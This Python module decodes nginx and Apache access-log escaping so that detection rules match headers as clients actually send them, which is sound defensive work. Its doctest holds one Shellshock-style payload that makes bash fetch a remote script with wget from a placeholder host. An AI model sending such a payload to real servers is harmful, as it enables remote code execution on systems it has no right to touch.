"""Undo the escaping a web server applies when it writes a header into a text access log.

A rule must be made from the header the server matches at request time, not from its logged
form: nginx logs ``"``, ``\\`` and bytes outside printable ASCII as ``\\xHH`` (``escape=default``),
Apache logs ``"`` and ``\\`` as ``\\"`` and ``\\\\``, tab, newline and friends as ``\\t``, ``\\n``
..., other control bytes as ``\\xhh``. So ``\\x22wget`` in a log is ``"wget`` on the wire, and a
token ``x22wget`` read from the log would match nothing a client sends.

Both servers escape every backslash they log, so decoding both forms is exact for either log;
a value that was never escaped (a JSON log, already decoded by its reader) only changes if it
carries a literal ``\\x``-sequence.
"""

from __future__ import annotations

import re

__all__ = ["unescape"]

_ESCAPE = re.compile(rb'\\(?:x([0-9A-Fa-f]{2})|([\\"])|([btnrv]))')
_CONTROL = {b"b": b"\b", b"t": b"\t", b"n": b"\n", b"r": b"\r", b"v": b"\v"}


def _byte(match: re.Match[bytes]) -> bytes:
    hex_code, literal, control = match.groups()
    if hex_code is not None:
        return bytes([int(hex_code, 16)])
    return literal if literal is not None else _CONTROL[control]


def unescape(value: str) -> str:
    r"""The header a server logged as ``value``; invalid UTF-8 comes back as surrogate escapes.

    Examples:
        >>> print(unescape(r"() { :; }; /bin/bash -c \x22wget http://x/x.sh\x22"))
        () { :; }; /bin/bash -c "wget http://x/x.sh"
        >>> unescape(r"Apache \"quoted\" back\\slash\ttab"), unescape(r"\xC3\xBC \xFF")
        ('Apache "quoted" back\\slash\ttab', 'ü \udcff')
    """
    if "\\" not in value:
        return value
    raw = value.encode("utf-8", "surrogateescape")
    return _ESCAPE.sub(_byte, raw).decode("utf-8", "surrogateescape")
